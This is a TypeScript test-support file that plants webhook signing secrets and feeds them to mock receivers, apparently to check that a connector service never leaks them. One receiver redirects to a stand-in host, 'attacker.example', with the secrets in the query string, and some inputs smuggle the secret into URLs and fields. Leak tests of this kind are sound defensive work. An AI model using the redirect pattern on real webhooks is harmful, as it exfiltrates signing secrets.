import { vi } from "vitest";
import {
  type Answering,
  openReceiver,
  type Received,
  ring,
  steerTime,
} from "#test/support/receiver.ts";
import type { Planting } from "./planting.ts";

const DAY_MS = 86_400_000;

/** Makes webhooks whose receivers know their secrets and repeat them, rotates and changes them. */
export async function plantWebhookSecrets(
  planting: Planting,
  write: (connectorId: string) => Promise<void>,
): Promise<void> {
  const { admin, failing, showing } = planting;
  const id = await planting.connector();
  const path = `/connectors/${id}/webhooks`;
  const time = steerTime();
  const body = { url: "https://receiver.example/hook" };
  const made = await showing(path, { body });
  const secrets = [made.secret];
  const webhook = `${path}/${made.id}`;
  for (const echo of ECHOES) {
    openReceiver((received) => {
      planting.told.push(secrets.join(" "));
      return echo(secrets)(received);
    });
    await admin(`${webhook}/test`, { method: "POST" });
    const rotated = await showing(`${webhook}/rotate`, { body: { overlapSeconds: 3_600 } });
    secrets.push(rotated.secret);
    await write(id);
    await ring(made);
    time.advance(DAY_MS);
    await ring(made);
    await admin(webhook, { method: "PATCH", body: { status: "active" } });
  }
  for (const bad of refusedOnes(made.secret)) {
    await admin(path, { body: bad });
    await admin(webhook, { method: "PATCH", body: bad });
  }
  for (const call of [path, webhook, `${webhook}/rotate`])
    await failing(made.secret, call, { body });
  for (const call of [path, webhook, `${webhook}/deliveries?limit=200`]) await admin(call);
  vi.mocked(globalThis.fetch).mockRestore();
  vi.mocked(Date.now).mockRestore();
}

/** Receivers that answer with what they were sent, and with the secrets that they know. */
const ECHOES: readonly ((secrets: readonly string[]) => Answering)[] = [
  ...[200, 400, 401, 500].map(
    (status) => (secrets: readonly string[]) => (received: Received) =>
      new Response(`${secrets.join(" ")} ${JSON.stringify([...received.headers])}`, { status }),
  ),
  (secrets) => () => {
    const bare = secrets.at(-1)?.replace("whsec_", "");
    return new Response(JSON.stringify({ bare }), { status: 500 });
  },
  (secrets) => () => Promise.reject(new TypeError(`fetch failed: ${secrets.join(" ")}`)),
  (secrets) => () => {
    const Location = `https://attacker.example/?${encodeURIComponent(secrets.join(" "))}`;
    return new Response(null, { status: 302, headers: { Location } });
  },
];

function refusedOnes(secret: string): readonly unknown[] {
  const url = "https://receiver.example/";
  return [
    { url, secret },
    { url: `https://a:${secret.slice("whsec_".length)}@receiver.example/` },
    { url, eventTypes: [secret] },
    { url: secret },
    `{"url":"${secret}"`,
  ];
}
